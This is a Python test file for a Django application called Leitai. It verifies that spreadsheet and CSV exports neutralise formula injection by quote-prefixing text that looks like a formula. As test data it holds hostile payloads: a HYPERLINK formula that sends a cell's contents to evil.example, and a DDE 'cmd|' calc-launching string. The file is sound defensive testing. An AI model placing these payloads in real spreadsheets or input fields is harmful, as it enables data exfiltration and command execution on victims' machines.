"""Formula injection: every spreadsheet Leitai writes stores typed text as text, never a formula."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import models
from django.db.models import Value
from django.db.models.functions import Concat, Left
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from leitai.core.spreadsheets import (
    csv_cell,
    csv_unquote,
    csv_writer,
    is_formula_like,
    new_workbook,
    workbook_bytes,
)
from leitai.rankings.models import ImmutableRowError

HOSTILE = '=HYPERLINK("http://evil.example/?"&C5,"点击查看佐证")'
STARTS = ["=1+2", "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\r=1"]
LEITAI = Path(__file__).resolve().parents[2] / "leitai"


def cells(data: bytes):
    """Yield every cell of every sheet of the workbook bytes."""
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(data: bytes, marker: str) -> int:
    """Assert no formula cell; return how many cells hold text starting with `marker`."""
    found = 0
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if is_formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(marker):
            found += 1
    return found


# --- the writer ----------------------------------------------------------------------------------


def test_text_that_looks_like_a_formula_is_a_quote_prefixed_string_and_numbers_stay_numbers():
    book = new_workbook()
    sheet = book.active
    sheet.append([*STARTS, 5, -3.5, "-3.5", "+7", "普通文字", None])
    sheet["A2"] = "=SUM(A1:B1)"
    data = workbook_bytes(book)
    back = load_workbook(io.BytesIO(data)).active
    row = [(c.value, c.data_type, bool(c.quotePrefix)) for c in back[1]]
    assert row == [
        *[(text, "s", True) for text in STARTS],
        (5, "n", False),
        (-3.5, "n", False),
        ("-3.5", "s", False),
        ("+7", "s", False),
        ("普通文字", "s", False),
    ]
    assert (back["A2"].value, back["A2"].data_type, back["A2"].quotePrefix) == (
        "=SUM(A1:B1)",
        "s",
        True,
    )
    assert b"<f>" not in data


def test_csv_prefixes_formula_text_with_a_quote_and_unquote_removes_exactly_that():
    texts = [*STARTS, "'=x", "''-y", "'plain", "-", "-3.5", "2e-05", "普通", ""]
    stream = io.StringIO()
    csv_writer(stream).writerow([*texts, 4, -1.25])
    written = next(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert written == [
        "'=1+2",
        "'+1+2",
        "'-1+cmd|' /C calc'!A0",
        "'@SUM(1,2)",
        "'\t=1",
        "'\r=1",
        "''=x",
        "'''-y",
        "'plain",
        "'-",
        "-3.5",
        "2e-05",
        "普通",
        "",
        "4",
        "-1.25",
    ]
    assert [csv_unquote(w) for w in written[: len(texts)]] == texts
    assert csv_cell(4) == 4


def test_no_module_writes_a_spreadsheet_without_the_safe_writer():
    pattern = re.compile(r"\bWorkbook\(|import Workbook|\bcsv\.writer\(|csv\.DictWriter\(")
    offenders = [
        str(path.relative_to(LEITAI))
        for path in LEITAI.rglob("*.py")
        if path.name != "spreadsheets.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_scoring_outputs_keep_a_hostile_unit_name_as_text(tmp_path):
    from leitai.scoring import Unit
    from leitai.scoring.writers import to_csv, write_xlsx
    from tests.scoring.helpers import one_indicator, run

    result = run(
        one_indicator("completion"),
        [Unit("A", HOSTILE, "g"), Unit("B", "@B", "g")],
        [],
    )
    rows = list(csv.reader(io.StringIO(to_csv(result))))
    assert sorted(r[1] for r in rows[1:]) == ["'" + HOSTILE, "'@B"]
    write_xlsx(result, tmp_path / "out.xlsx")
    assert assert_no_formula((tmp_path / "out.xlsx").read_bytes(), HOSTILE[:10]) >= 2


# --- the office's value template reads back unchanged --------------------------------------------


@pytest.mark.django_db
def test_value_template_with_hostile_notes_reads_back_unchanged(world):
    from leitai.assessment.collection.exports import template_workbook
    from leitai.assessment.collection.services.excel_values import (
        plan_upload,
        values_import,
    )
    from leitai.assessment.models import IndicatorValue
    from tests.assessment.collection_world import build_collection

    col = build_collection(world)
    for code, note in (("P01", HOSTILE), ("P02", "-减少 3 项")):
        IndicatorValue.objects.create(
            period=col.february,
            unit=world.unit_a,
            indicator_code=code,
            value=Decimal("7"),
            note=note,
        )
    data = template_workbook(world.reporter_a, col.february, world.unit_a, "2022-02 数据")
    assert assert_no_formula(data, HOSTILE) == 1
    result = plan_upload(user=world.reporter_a, period=col.february, data=data)
    assert (result.changes, result.unchanged, result.problems) == ([], 2, [])
    # Edited in the sheet (the value only) and uploaded: the note is still exactly the text.
    book = load_workbook(io.BytesIO(data))
    sheet = book.active
    sheet["I4"] = 8
    changed = io.BytesIO()
    book.save(changed)
    result = plan_upload(user=world.reporter_a, period=col.february, data=changed.getvalue())
    assert result.problems == []
    assert values_import(actor=world.reporter_a, period=col.february, plan=result) == 1
    stored = dict(IndicatorValue.objects.values_list("indicator_code", "note"))
    assert stored == {"P01": HOSTILE, "P02": "-减少 3 项"}
    assert IndicatorValue.objects.get(indicator_code="P01").value == Decimal("8")


# --- every export of the demo county, with every typed text made hostile -------------------------

SKIP_MODELS = {"core.AuditEntry"}
SKIP_NAMES = re.compile(r"code|username|password|email|key|slug|kind|state|status|action|origin")
MARKER = "="


def _poison_every_text() -> None:
    """Prefix every free-text column of every Leitai model (and people's names) with HOSTILE."""
    from django.apps import apps

    targets = [m for m in apps.get_models() if m.__module__.startswith("leitai.")]
    targets.append(get_user_model())
    prefix = HOSTILE + " "
    for model in targets:
        if model._meta.label in SKIP_MODELS:
            continue
        updates = {}
        keyed = {name for names in model._meta.unique_together for name in names}
        keyed |= {
            name
            for constraint in model._meta.constraints
            for name in getattr(constraint, "fields", ())
        }
        for field in model._meta.concrete_fields:
            if (
                not isinstance(field, models.CharField | models.TextField)
                or isinstance(field, models.SlugField | models.EmailField | models.URLField)
                or field.choices
                or field.unique
                or field.primary_key
                or SKIP_NAMES.search(field.name)
            ):
                continue
            # A column in a unique key gets a one-character prefix: no truncation, no clash.
            start = "=" if field.name in keyed else prefix
            expression = Concat(Value(start), models.F(field.name))
            if field.max_length:
                expression = Left(expression, field.max_length)
            updates[field.name] = expression
        if model._meta.label == "auth.User":
            model.objects.update(first_name=updates["first_name"])
        elif updates:
            # rankings' and honours' rows are never changed
            with contextlib.suppress(ImmutableRowError):
                model.objects.update(**updates)


@pytest.mark.django_db
def test_every_export_of_the_demo_has_no_formula_cell(settings, tmp_path):
    from leitai.assessment.models import Period
    from leitai.keytasks.dispatch import notice_content as task_content
    from leitai.keytasks.models import DispatchNotice
    from leitai.rankings.models import Publication
    from leitai.rankings.notices.content import notice_content as ranking_content
    from leitai.rankings.notices.xlsx import notice_xlsx as ranking_xlsx

    settings.LEITAI_DATA_DIR = tmp_path
    call_command("demo", stdout=io.StringIO(), stderr=io.StringIO())
    _poison_every_text()
    for notice in DispatchNotice.objects.all():
        notice.content = task_content(notice.year, notice.week_start)
        notice.save(update_fields=["content"])
    office = Client()
    office.force_login(get_user_model().objects.get(username="office"))

    downloads: dict[str, bytes] = {}

    def fetch(name, url):
        response = office.get(url)
        if response.status_code == 200:
            downloads.setdefault(name, b"".join(response))

    for name in ("org:import_template", "supervision:ledger_xlsx", "assessment:target_export"):
        fetch(name, reverse(name))
    fetch("tasks:battle_map_xlsx", reverse("tasks:battle_map_xlsx"))
    fetch("tasks:export", reverse("tasks:export"))
    fetch(
        "tasks:notice_xlsx", reverse("tasks:notice_xlsx", args=[DispatchNotice.objects.first().pk])
    )
    for period in Period.objects.order_by("-starts_on"):
        for name in ("excel_template", "chasing_export", "panel_workbook"):
            fetch(name, reverse(f"assessment:{name}", args=[period.pk]))
    snapshot = Publication.objects.select_related("snapshot").latest("pk").snapshot
    content = ranking_content(snapshot, as_of=dt.date(2022, 12, 31))
    content.groups[0].name = HOSTILE
    content.groups[0].rows[0].unit = HOSTILE
    downloads["rankings notice"] = ranking_xlsx(content)

    assert sorted(downloads) == [
        "assessment:target_export",
        "chasing_export",
        "excel_template",
        "org:import_template",
        "panel_workbook",
        "rankings notice",
        "supervision:ledger_xlsx",
        "tasks:battle_map_xlsx",
        "tasks:export",
        "tasks:notice_xlsx",
    ]
    hostile = {name: assert_no_formula(data, MARKER) for name, data in downloads.items()}
    assert [name for name, count in hostile.items() if count == 0] == []


@pytest.mark.parametrize(
    "column",
    [
        ["完成率 85%，得分 8.5 / 10", "免考核，不计入"],
        ["-1.5", "-3"],  # negative numbers stay as they are
        ["=SUM(A1)", "ok"],
        ["ok", "+1+1"],
        ["ok", "-abc"],
        ["ok", "'=x"],
        ["@x", "\tx"],
        ["a,b", 'say "hi"'],
        ["two\nlines", "\rx"],
        ["", "x"],
    ],
)
def test_columns_are_written_as_rows_would_be(column):
    other = ["1.0", "true"]
    by_rows, by_columns = io.StringIO(), io.StringIO()
    csv_writer(by_rows, lineterminator="\n").writerows(zip(other, column, other, strict=True))
    csv_writer(by_columns, lineterminator="\n").writecolumns([other, column, other])
    assert by_columns.getvalue() == by_rows.getvalue()
    if column[0] == "=SUM(A1)":
        assert by_columns.getvalue().startswith("1.0,'=SUM(A1),1.0\n")
